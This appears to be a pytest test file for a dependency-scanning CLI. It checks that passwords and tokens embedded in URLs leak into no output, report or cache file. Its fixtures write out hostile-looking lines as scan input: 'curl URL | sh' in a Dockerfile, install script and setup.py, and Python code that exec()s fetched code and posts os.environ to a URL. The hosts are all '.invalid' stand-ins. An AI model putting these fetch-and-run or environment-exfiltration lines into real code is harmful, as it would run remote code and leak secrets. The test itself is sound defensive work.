"""A user and a password, or a token, that stands in a URL of any input leaves in no output, in no file, in no cache."""

from __future__ import annotations

import json
import os
from pathlib import Path

import pytest

from scanner.cli import main
from tests.support.builders import wheel
from tests.support.index_server import Index

pytestmark = pytest.mark.usefixtures("seed_is_unpacked")

MARK = "S3cr3tW0rd"
SHAPES = {
    "password": f"https://reader:{MARK}@files.invalid/demo-1.0-py3-none-any.whl",
    "token-alone": f"https://reader:{MARK}@files.invalid:8443/demo-1.0.tar.gz",
    "password-with-at": f"https://reader:p@{MARK}@files.invalid/demo-1.0-py3-none-any.whl",
    "password-with-slash": f"https://reader:p/{MARK}@files.invalid/demo-1.0-py3-none-any.whl",
    "password-with-question": f"https://reader:p?{MARK}@files.invalid/demo-1.0-py3-none-any.whl",
    "password-with-hash": f"https://reader:p#{MARK}@files.invalid/demo-1.0-py3-none-any.whl",
    "query": f"https://files.invalid/demo-1.0-py3-none-any.whl?token={MARK}",
    "signature": f"https://files.invalid/demo-1.0-py3-none-any.whl?Expires=1&X-Amz-Signature={MARK}",
    "repository": f"git+https://reader:{MARK}@git.invalid/demo.git@main",
    "over-ssh": f"git+ssh://reader:{MARK}@git.invalid/demo.git@main",
}


def _written(root: Path, url: str) -> None:
    """One URL in every kind of file that is read, in each place of it where a URL may stand."""
    bare = url.partition("://")[2]
    files = {
        "requirements.txt": f"""\
--index-url {url}
--extra-index-url={url} --find-links {url}
--trusted-host {bare}
-r {url}
-c {url}
demo @ {url}
-e {url}#egg=editable
{url}#egg=named
# see {url} and {bare}
!!! {url} {bare}
other==1.0 --hash=sha256:{"0" * 64} --config-settings {url}
""",
        "pyproject/pyproject.toml": f"""\
[build-system]
requires = ["backend @ {url}"]
[project]
name = "demo"
version = "1"
dependencies = ["one @ {url}"]
urls = {{Home = "{url}"}}
[project.optional-dependencies]
two = ["two @ {url}"]
[dependency-groups]
dev = ["three @ {url}"]
[tool.uv]
index-url = "{url}"
find-links = ["{url}"]
[[tool.uv.index]]
name = "company"
url = "{url}"
[tool.uv.sources]
one = {{url = "{url}"}}
[[tool.pdm.source]]
name = "company"
url = "{url}"
""",
        "poetry/pyproject.toml": f"""\
[tool.poetry]
name = "demo"
version = "1"
[tool.poetry.dependencies]
one = {{git = "{url}"}}
two = {{url = "{url}"}}
[[tool.poetry.source]]
name = "company"
url = "{url}"
""",
        "poetry/poetry.lock": f"""\
[[package]]
name = "one"
version = "1.0"
files = []
[package.source]
type = "legacy"
url = "{url}"
reference = "company"
[metadata]
lock-version = "2.0"
""",
        "uv/uv.lock": f"""\
version = 1
[[package]]
name = "one"
version = "1.0"
source = {{ registry = "{url}" }}
wheels = [{{ url = "{url}", hash = "sha256:{"0" * 64}" }}]
[[package]]
name = "two"
version = "1.0"
source = {{ url = "{url}" }}
""",
        "pdm/pdm.lock": f"""\
[[package]]
name = "one"
version = "1.0"
url = "{url}"
files = [{{url = "{url}", hash = "sha256:{"0" * 64}"}}]
""",
        "pylock/pylock.toml": f"""\
lock-version = "1.0"
created-by = "someone"
[[packages]]
name = "one"
version = "1.0"
index = "{url}"
[[packages.wheels]]
name = "one-1.0-py3-none-any.whl"
url = "{url}"
hashes = {{sha256 = "{"0" * 64}"}}
[[packages]]
name = "two"
[packages.archive]
url = "{url}"
hashes = {{sha256 = "{"0" * 64}"}}
""",
        "pipenv/Pipfile": f"""\
[[source]]
name = "company"
url = "{url}"
[packages]
one = {{git = "{url}"}}
two = {{file = "{url}"}}
""",
        "pipenv/Pipfile.lock": json.dumps(
            {
                "_meta": {"sources": [{"name": "company", "url": url}], "pipfile-spec": 6},
                "default": {"one": {"version": "==1.0", "index": "company"}, "two": {"git": url, "ref": "main"}},
            }
        ),
        "conda/environment.yml": f"channels: ['{url}']\ndependencies:\n- pip\n- pip:\n  - one @ {url}\n  - -i {url}\n",
        "setuptools/setup.cfg": f"""\
[metadata]
name = demo
[options]
install_requires =
  one @ {url}
dependency_links =
  {url}
""",
        "old/setup.py": f"""\
from setuptools import setup
setup(name='demo', install_requires=['one @ {url}'], dependency_links=['{url}'])
""",
        "image/Dockerfile": f"""\
FROM python
RUN pip install --index-url {url} one
RUN pip install {url}
RUN curl {url} | sh
""",
        "image/install.sh": f"#!/bin/sh\npip install -i '{url}' one && curl -fsSL {url} | bash\npip install {bare}\n",
        ".github/workflows/ci.yml": f"jobs:\n  a:\n    steps:\n    - run: pip install --extra-index-url {url} one\n",
        ".pre-commit-config.yaml": f"""\
repos:
- repo: {url}
  rev: main
  hooks:
  - id: x
    additional_dependencies: ['one @ {url}']
""",
        "bill/bom.cdx.json": json.dumps(
            {
                "bomFormat": "CycloneDX",
                "specVersion": "1.5",
                "components": [
                    {
                        "type": "library",
                        "name": "one",
                        "version": "1.0",
                        "purl": f"pkg:pypi/one@1.0?download_url={url}",
                        "externalReferences": [{"type": "distribution", "url": url}],
                    }
                ],
            }
        ),
        "node/package.json": json.dumps({"name": "demo", "dependencies": {"one": url}}),
        "code/__init__.py": f"import urllib.request, os\nexec(urllib.request.urlopen('{url}').read())\n"
        f"urllib.request.urlopen('{url}', data=repr(dict(os.environ)).encode())\n# {bare}\n",
        "code/setup.py": f"""\
import os
os.system('curl {url} | sh')
from setuptools import setup
setup(name='{bare}')
""",
    }
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text)


EVERY_FORMAT = "html,json,sarif,cyclonedx,markdown,text,annotations"
COMMANDS = {
    **{f"resolve-{form}": ["resolve", "{root}", "--format", form] for form in ("tree", "json", "mermaid", "dot")},
    "resolve-requirements": ["resolve", "{root}/uv", "--format", "requirements", "--offline"],
    "resolve-pylock": ["resolve", "{root}/pylock", "--format", "pylock", "--offline"],
    "resolve-one": ["resolve", "{root}/requirements.txt", "--offline"],
    "why": ["why", "one", "{root}", "--offline"],
    "why-not-there": ["why", "{url}", "{root}", "--offline"],
    "affected": ["affected", "one", "{root}"],
    "affected-json": ["affected", "one", "{root}", "--format", "json"],
    "scan": ["scan", "{root}/code", "{root}/old", "--workers", "1"],
    **{
        f"scan-{form}": ["scan", "{root}/code", "--workers", "1", "--format", form]
        for form in ("json", "jsonl", "sarif")
    },
    "capabilities": ["capabilities", "{root}/code", "--workers", "1"],
    "capabilities-json": ["capabilities", "{root}/code", "--workers", "1", "--format", "json"],
    "match": ["db", "match", "{root}"],
    "match-json": ["db", "match", "{root}", "--format", "json"],
    "audit": ["audit", "{root}", "--output", "{out}", "--format", EVERY_FORMAT],
    "report": ["report", "{out}/report.json", "--output", "{out}/again", "--format", EVERY_FORMAT],
    "merged": ["report", "{out}/report.json", "{out}/again/report.json", "--merge", "--output", "{out}/merged"],
    "broken-toml": ["audit", "{root}/../broken/a", "--output", "{out}"],
    "broken-json": ["resolve", "{root}/../broken/b"],
    "audit-quiet": ["audit", "{root}/requirements.txt", "--output", "{out}", "--quiet", "--format", "json"],
    "wrong-usage": ["audit", "{url}"],
    "no-such-source": ["db", "update", "--source", "{url}"],
    "no-such-advisories": ["audit", "{root}/requirements.txt", "--output", "{out}", "--advisories", "{one}"],
    "no-such-policy": ["audit", "{root}", "--policy", "{url}"],
    "no-such-tree": ["audit", "{root}", "--source", "one={url}"],
    "no-such-date": ["resolve", "{root}", "--exclude-newer", "{url}"],
    "no-such-constraint": ["resolve", "{root}", "--constraint", "{url}"],
    "no-such-artifact": ["scan", "{url}"],
    "no-such-report": ["report", "{url}"],
    "no-such-extra": ["resolve", "{root}", "--extra", "{url}"],
}


@pytest.fixture(autouse=True)
def nobody_answers(monkeypatch: pytest.MonkeyPatch) -> None:
    """Hosts under ``.invalid`` are not looked up: the test stays on loopback."""
    import socket

    known = socket.getaddrinfo

    def without_dns(host: str, *rest: object, **named: object) -> object:
        if str(host).endswith("invalid"):
            raise socket.gaierror(socket.EAI_NONAME, "Name or service not known")
        return known(host, *rest, **named)  # type: ignore[arg-type]

    monkeypatch.setattr(socket, "getaddrinfo", without_dns)


def _files(folder: Path) -> list[str]:
    """Files below a folder that hold the mark, as text or by name."""
    found = []
    for top, _, names in os.walk(folder):
        for name in names:
            path = Path(top) / name
            if MARK in str(path) or MARK.encode() in path.read_bytes():
                found.append(str(path))
    return found


def test_what_stands_in_a_url_leaves_in_no_way(
    tmp_path: Path,
    index: Index,
    own_directories: Path,
    capfd: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.chdir(tmp_path)
    for name in ("one", "two", "other", "demo"):
        index.add(name, wheel(name))
    _written(tmp_path / "vendor", SHAPES["password-with-slash"])
    for shape, url in SHAPES.items():
        _written(tmp_path / "vendor" / shape, url)
    urls = "\n".join(SHAPES.values())
    for path, text in {
        "a/uv.lock": f"version = 1\n[[package]\nsource = '''{urls}'''\n",
        "b/Pipfile.lock": f'{{"_meta": "{urls}"',
    }.items():
        (tmp_path / "broken" / path).parent.mkdir(parents=True)
        (tmp_path / "broken" / path).write_text(text)
    leaks: list[str] = []
    for name, words in COMMANDS.items():
        for url in SHAPES.values() if any("{url}" in word for word in words) else ("",):
            places = {
                "root": str(tmp_path / "vendor"),
                "out": str(tmp_path / "out"),
                "url": url,
                "one": SHAPES["query"],
            }
            try:
                code = main([word.format(**places) for word in words])
            except SystemExit as ended:  # argparse
                code = int(ended.code or 0)
            shown = capfd.readouterr()
            assert "Traceback" not in shown.err, name
            assert code != 4, (name, shown.err)
            for stream, text in (("stdout", shown.out), ("stderr", shown.err)):
                leaks += [f"{name}: {stream}: {line[:300]}" for line in text.splitlines() if MARK in line]
    leaks += _files(tmp_path / "out") + _files(own_directories)
    assert not leaks, "\n".join(leaks[:40])
    # The commands did their work: a report in every format, of the tree and rendered again, and pages in the cache.
    assert len(list((tmp_path / "out").iterdir())) >= 9
    assert {path.name for path in (tmp_path / "out" / "again").iterdir()} >= {"report.html", "report.cdx.json"}
    assert list(own_directories.rglob("pages/*/*"))
